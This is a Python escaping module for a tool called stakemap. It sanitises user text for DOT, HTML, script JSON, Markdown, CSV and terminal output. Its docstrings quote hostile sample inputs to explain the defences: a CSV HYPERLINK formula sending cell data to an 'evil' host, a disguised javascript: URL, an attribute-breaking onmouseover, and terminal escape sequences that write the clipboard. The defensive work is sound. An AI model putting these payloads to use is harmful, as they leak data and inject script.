"""Escaping user text for each language stakemap writes: one function per target.

Names, titles, ids, tiers, playbook names and remediation texts all come from the user's
portfolio and playbooks, which may come from anyone (a customer's own spreadsheet, an
import). Every output format gives some characters a meaning, so each format has exactly
one function here that turns arbitrary text into text that means only itself in that
format, and every writer calls it for every piece of user text:

- ``dot_string`` / ``dot_html``: Graphviz DOT (quoted strings; HTML-like labels)
- ``html_text`` / ``html_attribute`` / ``safe_url``: the HTML review pack
- ``script_json``: data for a page's script (the HTML explorer), as JSON inside ``<script>``
- ``markdown_text`` / ``markdown_code``: Markdown gap reports and review packs
- ``csv_cell``: CSV gap reports opened in spreadsheets
- ``terminal_text``: tables printed to a terminal or a pipe

Each function leaves ordinary text (letters of any script, digits, spaces, ``&``,
parentheses, hyphens, dots, apostrophes) as it was, so escaping changes nothing a reader
of an ordinary portfolio sees. Each is tested on a corpus of hostile text in its own
language (``tests/test_escape.py``): the real ``dot``, a CommonMark renderer, the csv
module, bytes sent to a terminal.

Nothing here imports the rest of stakemap: it is the bottom layer, usable from anywhere.
"""

from __future__ import annotations

import html
import re

__all__ = [
    "csv_cell",
    "dot_html",
    "dot_string",
    "html_attribute",
    "html_text",
    "markdown_code",
    "markdown_text",
    "safe_url",
    "script_json",
    "terminal_text",
]

_CONTROLS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\ud800-\udfff\ufffe\uffff]")
"""C0 controls except tab and newline, DEL, C1 controls, lone surrogates and the two
non-characters XML forbids. None of them is text anyone means to show; several end or
corrupt a parse (Graphviz's XML parser rejects them; NUL ends C strings)."""


def _plain(text: str) -> str:
    """Line breaks normalised to ``\\n``, tabs to a space, other control characters removed:
    the text every non-terminal target starts from."""
    text = str(text).replace("\r\n", "\n").replace("\r", "\n").replace("\t", " ")
    return _CONTROLS.sub("", text)


# -- Graphviz DOT ----------------------------------------------------------------------------

def dot_string(text: str) -> str:
    """``text`` as a DOT double-quoted string, quotes included.

    Rule: control characters removed (tab becomes a space), then ``\\`` doubled, ``"``
    escaped, ``&`` written ``&amp;``, and line breaks written ``\\n``.

    Why: inside quotes DOT ends the string at an unescaped ``"``, so an escaped quote is all
    it takes to keep ``"; evil [...]`` text; a single ``\\`` starts Graphviz's own escapes
    (``\\N`` is the node's name, ``\\l`` a left-justified line), so a user's backslash is
    doubled to stay a backslash. Graphviz also decodes HTML entities in the strings it
    shows (labels, tooltips, a node's SVG title), so ``&`` becomes ``&amp;`` and a name
    written ``&lt;b&gt;`` is shown as written. The value is always quoted, so it is never
    read as an HTML-like label, whatever it starts with (``<Ops>`` is a name, not markup).
    """
    escaped = _plain(text).replace("\\", "\\\\").replace('"', '\\"').replace("&", "&amp;")
    return '"' + escaped.replace("\n", "\\n") + '"'


def dot_html(text: str) -> str:
    """``text`` for the inside of a Graphviz HTML-like label (``label=<...>``).

    Rule: control characters removed (tab becomes a space), then ``& < > " '`` written as
    entities, ``]`` written ``&#93;``, a word joiner (U+2060, invisible) put between a
    backslash and a following ``G N E H T L``, line breaks written ``<BR/>``, and text that
    comes out empty written as one space.

    Why: an HTML-like label is XML that Graphviz parses; an unescaped ``<`` in a name would
    be read as an element (``<A HREF="javascript:...">`` would become a live link in the
    SVG, ``<Ops>`` a syntax error that stops ``dot``), and control characters are not
    allowed in XML at all. Graphviz expands ``\\N`` (the node's name), ``\\G`` and the like
    even inside HTML-like labels, after entities are decoded, and has no escape for the
    backslash there, so the invisible joiner is the only way to show a user's ``\\N`` as
    written. Its label lexer also fails on a text made only of ``]`` (``<B>]</B>``) and on
    an empty element (``<B></B>``), so those two never reach it. Only markup that stakemap
    writes itself may surround the result.
    """
    escaped = html.escape(_plain(text), quote=True).replace("]", "&#93;")
    escaped = _DOT_ESCAPE.sub("\\\u2060", escaped)
    return escaped.replace("\n", "<BR/>") or " "


_DOT_ESCAPE = re.compile(r"\\(?=[GNEHTL])")
"""A backslash that Graphviz would read as the start of ``\\N``, ``\\G``, ``\\E``, ``\\H``,
``\\T`` or ``\\L``."""


# -- HTML --------------------------------------------------------------------------------------

def html_text(text: str) -> str:
    """``text`` for an HTML element's content.

    Rule: control characters removed (tab kept as a space, line breaks kept), then
    ``& < > " '`` written as entities.

    Why: ``<`` and ``&`` are the only characters that start markup in text, but quotes are
    escaped too, so a piece of text stays safe if it is ever moved into an attribute, and
    the page is the same byte for byte as before this module existed. Control characters
    are parse errors in HTML (NUL becomes U+FFFD), never meant text.
    """
    return html.escape(_plain(text), quote=True)


def html_attribute(text: str) -> str:
    """``text`` for the inside of a double- or single-quoted HTML attribute value.

    Rule: as ``html_text``, and line breaks become spaces.

    Why: a quote ends the value and lets the rest of the text write new attributes
    (``" onmouseover="...``); with both quote characters and ``<``, ``>``, ``&`` escaped
    the value cannot end early, whichever quote the markup uses. Do not use this for
    ``href`` or ``src`` values: those also need ``safe_url``, because an escaped
    ``javascript:`` URL is still a script.
    """
    return html.escape(_plain(text).replace("\n", " "), quote=True)


def script_json(value: object) -> str:
    """``value`` as JSON text for the inside of a ``<script type="application/json">``.

    Rule: ``json.dumps`` (non-ASCII kept), control characters removed from every string,
    then ``<``, ``>`` and ``&`` written ``\\u003c``, ``\\u003e``, ``\\u0026``, and U+2028 and
    U+2029 written ``\\u2028``, ``\\u2029``.

    Why: the HTML parser ends a script element at the first ``</script`` whatever the
    script's type, and ``<!--`` changes how it looks for that end; with no ``<`` left in
    the text neither can occur, and ``JSON.parse`` reads the escapes back to the very
    same strings. ``>`` and ``&`` go too, so the text means nothing to any HTML parser; the
    two line separators, so the text is also a valid JavaScript literal.
    """
    import json

    text = json.dumps(_clean(value), ensure_ascii=False, separators=(",", ":"))
    for char, code in (("<", "\\u003c"), (">", "\\u003e"), ("&", "\\u0026"),
                       ("\u2028", "\\u2028"), ("\u2029", "\\u2029")):
        text = text.replace(char, code)
    return text


def _clean(value: object) -> object:
    """``value`` with control characters removed from every string in it (``_plain``)."""
    if isinstance(value, str):
        return _plain(value)
    if isinstance(value, dict):
        return {_plain(str(k)): _clean(v) for k, v in value.items()}
    if isinstance(value, list | tuple):
        return [_clean(v) for v in value]
    return value


_SAFE_SCHEMES = ("http", "https", "mailto")


def safe_url(url: str) -> str | None:
    """``url`` if it is an absolute ``http``, ``https`` or ``mailto`` URL, else ``None``.

    Rule: control characters and whitespace a browser would skip are removed first, then
    the scheme (up to the first ``:``) must be one of the three, compared without case.
    Relative URLs, ``javascript:``, ``data:``, ``vbscript:``, ``file:`` and anything
    unparseable are refused. The result still needs ``html_attribute`` when written into
    markup.

    Why: browsers strip tabs and newlines inside a URL and ignore case, so
    ``JaVa\\tScRiPt:alert(1)`` runs script; an allow-list of the schemes a review pack has
    any use for is the only check that stays right as browsers change.
    """
    cleaned = re.sub(r"[\x00-\x20\x7f-\x9f]", "", str(url))
    scheme, colon, rest = cleaned.partition(":")
    if not colon or not rest or scheme.lower() not in _SAFE_SCHEMES:
        return None
    if scheme.lower() in ("http", "https") and not rest.startswith("//"):
        return None
    return cleaned


# -- Markdown ----------------------------------------------------------------------------------

_MARKDOWN_SPECIAL = re.compile(r"([\\`*_\[\]<>|#~])")
_ENTITY = re.compile(r"&(?=#[0-9]+;|#[xX][0-9a-fA-F]+;|[A-Za-z][A-Za-z0-9]*;)")
_LINE_START = re.compile(r"\A(\s*)(-+|\++|=+|\d{1,9}[.)])(?=\s|\Z)")


def markdown_text(text: str) -> str:
    """``text`` for inline Markdown, including a table cell (CommonMark with GitHub tables).

    Rule: control characters removed, line breaks and tabs become spaces, and a backslash
    goes before every ``\\ ` * _ [ ] < > | # ~``, before an ``&`` that starts an entity
    (``&lt;``), and before a leading ``-``, ``+``, ``=`` (or a run of them) or ``1.``/``1)``
    that would start a list, a rule or a heading underline.

    Why: ``<`` starts raw HTML and autolinks, ``[`` and ``]`` links and images (``!`` does
    nothing without them), backticks code spans, ``*``, ``_`` and ``~`` emphasis, ``|`` a
    new table column, ``#`` a heading, and a line break would end the table row; with these
    escaped no raw HTML and no link survives, and a bare URL (which some renderers
    linkify) is only ever http or https. ``&``, ``(``, ``)``, ``-``, ``.`` and ``!`` in the
    middle of text mean nothing on their own, so ordinary names (``Backup & Recovery``,
    ``李娜 (Li Na)``) are written unchanged.
    """
    flat = " ".join(_plain(text).split("\n"))
    escaped = _ENTITY.sub(r"\\&", _MARKDOWN_SPECIAL.sub(r"\\\1", flat))
    return _LINE_START.sub(_escape_line_start, escaped)


def _escape_line_start(match: re.Match[str]) -> str:
    """``- x`` -> ``\\- x``, ``1. x`` -> ``1\\. x`` (a backslash before a digit is no escape)."""
    space, marker = match.groups()
    if marker[0].isdigit():
        return space + marker[:-1] + "\\" + marker[-1]
    return space + "\\" + marker


def markdown_code(text: str) -> str:
    """``text`` as an inline Markdown code span, for ids and codes shown as code.

    Rule: control characters removed, line breaks become spaces, ``|`` becomes ``\\|`` (so a
    table row keeps its columns; GitHub tables drop the backslash again), and the fence is
    one backtick longer than the longest run of backticks inside, with a space of padding
    when the text starts or ends with a backtick. Ordinary ids come out as `` `id` ``.

    Why: nothing inside a code span is markup, but a backtick run of the fence's length
    ends it early, after which the rest of the text would be read as Markdown.
    """
    flat = " ".join(_plain(text).split("\n")).replace("|", "\\|")
    longest = max((len(run) for run in re.findall("`+", flat)), default=0)
    fence = "`" * (longest + 1)
    pad = " " if flat.startswith("`") or flat.endswith("`") or not flat.strip() else ""
    return f"{fence}{pad}{flat}{pad}{fence}"


# -- CSV ---------------------------------------------------------------------------------------

_FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def csv_cell(text: str) -> str:
    """``text`` as one CSV cell a spreadsheet shows as text (the csv module does the quoting).

    Rule (OWASP's CSV-injection guidance): a cell that starts with ``=``, ``+``, ``-``,
    ``@``, a tab or a carriage return (or the full-width forms of the first four, U+FF1D,
    U+FF0B, U+FF0D, U+FF20, which some spreadsheets also accept) gets a single quote ``'``
    in front. It is applied to every cell of every row, header included, so no column is
    forgotten when one is added. Line breaks inside a cell are written ``\\n`` (a lone
    ``\\r`` becomes one), so every reader sees one quoted cell, not a broken row.

    Why: spreadsheets run such a cell as a formula when the file is opened
    (``=HYPERLINK("http://evil/?"&A1, "click")`` sends data away, DDE formulas run
    programs). The quote is the guidance's choice because it is visible (a reader sees
    the text was altered, unlike a zero-width character), and Excel and LibreOffice treat
    a leading quote as "this is text". The cost: a cell such as ``-2`` is written ``'-2``.
    Quoting a cell that holds quotes, commas or line breaks is the csv writer's job; but a
    writer whose lines end in ``\\n`` leaves a lone ``\\r`` unquoted, which readers then
    take for the end of the row, so that one character is normalised here.
    """
    text = str(text)
    prefix = "'" if text.startswith(_FORMULA_START) else ""
    return prefix + text.replace("\r\n", "\n").replace("\r", "\n")


# -- terminal ----------------------------------------------------------------------------------

_TERMINAL_UNSAFE = re.compile("[\x00-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069"
                              "\ud800-\udfff]")
_NAMED = {"\t": "\\t", "\n": "\\n", "\r": "\\r"}


def _visible(match: re.Match[str]) -> str:
    char = match.group()
    if char in _NAMED:
        return _NAMED[char]
    code = ord(char)
    return f"\\x{code:02x}" if code <= 0xFF else f"\\u{code:04x}"


def terminal_text(text: str) -> str:
    """``text`` as it may be printed to a terminal: every control character made visible.

    Rule: C0 controls (ESC, BEL, NUL, backspace, and tab, newline and carriage return too),
    DEL, C1 controls (``\\x9b`` is a one-byte CSI), the Unicode line and paragraph
    separators and the bidirectional embedding, override and isolate controls
    (U+202A-U+202E, U+2066-U+2069) are written as Python-style escapes: ``\\x1b``,
    ``\\x07``, ``\\t``, ``\\n``, ``\\r``, ``\\x9b``, ``\\u202e``. Everything else is kept:
    letters of every script, CJK, Hebrew and Arabic (their direction comes from the
    characters themselves), emoji with their joiners.

    Why: a terminal obeys escape sequences in what it prints: ``\\x1b]52;c;...\\x07`` writes
    the clipboard, ``\\x1b]8;;URL\\x1b\\\\`` makes a hidden hyperlink, ``\\x1b[2J`` clears the
    screen, ``\\r`` lets text overwrite what is before it, and a right-to-left override
    makes text read backwards. Showing them, rather than dropping them, tells the reader
    the data holds something odd. Tabs and line breaks are shown too: a table cell is one
    line, and a tab would break the columns of the plain tables.
    """
    return _TERMINAL_UNSAFE.sub(_visible, str(text))
